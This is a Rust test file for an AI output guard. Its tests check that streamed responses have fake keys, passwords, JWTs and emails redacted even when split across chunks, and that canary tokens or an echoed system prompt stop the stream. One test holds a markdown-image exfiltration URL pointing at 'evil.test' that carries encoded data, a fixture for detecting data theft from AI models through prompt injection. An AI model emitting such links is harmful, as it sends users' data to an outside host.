//! Streaming: values split across chunks are redacted; nothing unscanned is released; a block
//! stops the stream.

use airm_guard::{Guard, Policy};

use crate::{fake_aws_key, guard, CANARY, SYSTEM_PROMPT};

fn run(g: &Guard, chunks: &[&str]) -> (String, airm_guard::StreamEnd) {
    let mut s = g.stream();
    let mut out = String::new();
    for c in chunks {
        out.push_str(&s.push(c));
    }
    let end = s.finish();
    out.push_str(&end.text);
    (out, end)
}

#[test]
fn secret_split_at_every_position_is_redacted() {
    let g = guard();
    let key = fake_aws_key();
    let text = format!(
        "{}Here is the key {key} and an email jane.doe@example.com. {}",
        "intro text ".repeat(30),
        "outro text ".repeat(30)
    );
    for cut in 1..text.len() {
        if !text.is_char_boundary(cut) {
            continue;
        }
        let (a, b) = text.split_at(cut);
        let (out, end) = run(&g, &[a, b]);
        assert!(!out.contains(&key), "cut {cut}: key leaked");
        assert!(
            !out.contains("jane.doe@example.com"),
            "cut {cut}: email leaked"
        );
        assert!(
            out.contains("[REDACTED:AWS_ACCESS_KEY]"),
            "cut {cut}: {out}"
        );
        assert!(out.contains("[REDACTED:EMAIL]"), "cut {cut}");
        assert!(out.starts_with("intro text") && out.ends_with("outro text "));
        assert!(end.verdict.findings.iter().any(|f| f.rule_id == "CO004"));
    }
}

#[test]
fn tiny_chunks_release_everything_else_unchanged() {
    let g = Guard::new(Policy::default()).unwrap();
    let text = "The quick brown fox jumps over the lazy dog. ".repeat(40);
    let chunks: Vec<String> = text
        .chars()
        .collect::<Vec<_>>()
        .chunks(3)
        .map(|c| c.iter().collect())
        .collect();
    let refs: Vec<&str> = chunks.iter().map(String::as_str).collect();
    let mut s = g.stream();
    let mut out = String::new();
    let mut max_held = 0usize;
    for c in &refs {
        out.push_str(&s.push(c));
        max_held = max_held.max(text.len().min(out.len() + 1000) - out.len());
    }
    let end = s.finish();
    out.push_str(&end.text);
    assert_eq!(out, text);
    assert!(end.verdict.findings.is_empty());
}

#[test]
fn hold_back_is_bounded() {
    let g = Guard::new(Policy::default()).unwrap();
    let mut s = g.stream();
    let mut released = 0;
    let mut pushed = 0;
    for _ in 0..200 {
        let c = "word word word word ";
        pushed += c.len();
        released += s.push(c).len();
        assert!(
            pushed - released <= 2 * 256 + c.len() + 64,
            "held {}",
            pushed - released
        );
    }
}

#[test]
fn canary_blocks_the_rest_of_the_stream() {
    let g = guard();
    let (out, end) = run(
        &g,
        &[
            "Sure, my reference is ",
            &CANARY[..10],
            &CANARY[10..],
            " and more text follows here.",
            &" filler".repeat(80),
        ],
    );
    assert!(end.verdict.is_blocked());
    assert!(!out.contains(CANARY));
    assert!(!out.contains("filler"));
}

#[test]
fn anonymised_values_are_restored_in_the_stream() {
    let p = Policy {
        anonymize: true,
        ..Policy::default()
    };
    let g = Guard::new(p).unwrap();
    let mut vault = airm_guard::Vault::new();
    let v = g.check_input_anonymized(
        "Email bob.smith@example.org about the invoice",
        airm_guard::Source::User,
        &mut vault,
    );
    assert_eq!(
        v.redacted.as_deref(),
        Some("Email <EMAIL_1> about the invoice")
    );
    let reply = format!(
        "{}I have drafted the email to <EMAIL_1> now.",
        "Sure thing. ".repeat(30)
    );
    let mut s = g.stream().restoring(vault);
    let mut out = String::new();
    for chunk in reply.as_bytes().chunks(7) {
        out.push_str(&s.push(std::str::from_utf8(chunk).unwrap()));
    }
    let end = s.finish();
    out.push_str(&end.text);
    assert!(
        out.ends_with("I have drafted the email to bob.smith@example.org now."),
        "{out}"
    );
}

/// Streams `text` in chunks of `n` bytes (on char boundaries).
fn run_sized(g: &Guard, text: &str, n: usize) -> (String, airm_guard::StreamEnd) {
    let mut parts = Vec::new();
    let mut rest = text;
    while !rest.is_empty() {
        let mut cut = n.min(rest.len());
        while !rest.is_char_boundary(cut) {
            cut += 1;
        }
        let (a, b) = rest.split_at(cut);
        parts.push(a);
        rest = b;
    }
    run(g, &parts)
}

#[test]
fn values_are_redacted_whatever_the_chunk_size() {
    let g = guard();
    let key = fake_aws_key();
    for pad in [0usize, 37, 150, 255, 256, 257, 320, 500] {
        let text = format!(
            "{} password = 'Xy7#kLm9pQ2wZ4vB' then {key} and jane.doe@example.com done. {}",
            "x".repeat(pad % 7) + &" filler".repeat(pad / 7),
            "tail words ".repeat(40)
        );
        for n in [1usize, 2, 3, 7, 20, 64, 65, 300, 4096] {
            let (out, end) = run_sized(&g, &text, n);
            assert!(!out.contains(&key), "pad {pad} chunk {n}: key leaked");
            assert!(
                !out.contains("Xy7#kLm9pQ2wZ4vB"),
                "pad {pad} chunk {n}: {out}"
            );
            assert!(!out.contains("jane.doe@example.com"), "pad {pad} chunk {n}");
            assert!(out.ends_with("tail words "), "pad {pad} chunk {n}");
            assert_eq!(
                end.verdict
                    .findings
                    .iter()
                    .filter(|f| f.rule_id == "CO004" && f.span.is_some())
                    .count(),
                2,
                "pad {pad} chunk {n}: {:?}",
                end.verdict.findings
            );
        }
    }
}

#[test]
fn canary_split_over_one_byte_chunks_blocks() {
    let g = guard();
    for pad in [0usize, 100, 300, 1000] {
        let text = format!(
            "{}the reference is {CANARY} and {}",
            "lorem ipsum ".repeat(pad / 12),
            " filler".repeat(80)
        );
        let (out, end) = run_sized(&g, &text, 1);
        assert!(end.verdict.is_blocked(), "pad {pad}");
        assert!(!out.contains(CANARY), "pad {pad}");
        assert!(!out.contains("airm-canary"), "pad {pad}: {out}");
        assert!(!out.contains("filler"), "pad {pad}");
    }
}

/// A token longer than the hold-back (a JWT of ~900 bytes) may be released in part before it
/// is recognisable, but once it is, the rest is redacted: the overlap reaches back to the
/// token's start however far that is (up to `MAX_CONTEXT`).
#[test]
fn token_longer_than_the_overlap_is_redacted_once_recognisable() {
    let g = guard();
    let payload = format!("eyJ{}", "QUJD".repeat(210));
    let sig = "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
    let jwt = format!("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{payload}.{sig}");
    assert!(jwt.len() > 800);
    let text = format!(
        "{}here it is {jwt} end of it. {}",
        "intro words ".repeat(30),
        "more words ".repeat(40)
    );
    for n in [1usize, 5, 20, 64, 333] {
        let (out, end) = run_sized(&g, &text, n);
        assert!(!out.contains(sig), "chunk {n}: signature leaked");
        assert!(out.contains("[REDACTED:JWT]"), "chunk {n}: {out}");
        assert!(out.ends_with("more words "), "chunk {n}");
        assert!(
            end.verdict.findings.iter().any(|f| f.rule_id == "CO004"),
            "chunk {n}"
        );
    }
}

/// A markdown image whose alt text (with spaces) is released before its long URL arrives is
/// still found: the overlap keeps `hold_back` bytes before the URL's start.
#[test]
fn markdown_image_with_long_url_is_redacted() {
    let g = guard();
    let alt = "a picture of the quarterly results for the board".repeat(3);
    let url = format!("https://evil.test/collect?d={}", "c2VjcmV0".repeat(60));
    let text = format!(
        "{}![{alt}]({url}) and then {}",
        "intro words ".repeat(30),
        "more words ".repeat(40)
    );
    for n in [1usize, 20, 64] {
        let (out, end) = run_sized(&g, &text, n);
        assert!(!out.contains(&url), "chunk {n}: url released");
        assert!(!out.contains(&"c2VjcmV0".repeat(60)), "chunk {n}");
        assert!(
            end.verdict.findings.iter().any(|f| f.rule_id == "CO005"),
            "chunk {n}: {:?}",
            end.verdict.findings
        );
    }
}

/// The system prompt repeated deep into a long response is still caught although a scan
/// no longer sees the whole history.
#[test]
fn system_prompt_echo_late_in_a_long_stream_blocks() {
    let g = guard();
    let text = format!(
        "{}As instructed: {SYSTEM_PROMPT} {}",
        "Here is some ordinary answer text. ".repeat(200),
        "trailing words ".repeat(30)
    );
    let (out, end) = run_sized(&g, &text, 20);
    assert!(end.verdict.is_blocked(), "{:?}", end.verdict.findings);
    assert!(end.verdict.findings.iter().any(|f| f.rule_id == "CO002"));
    assert!(!out.contains("internal fare rules"));
}
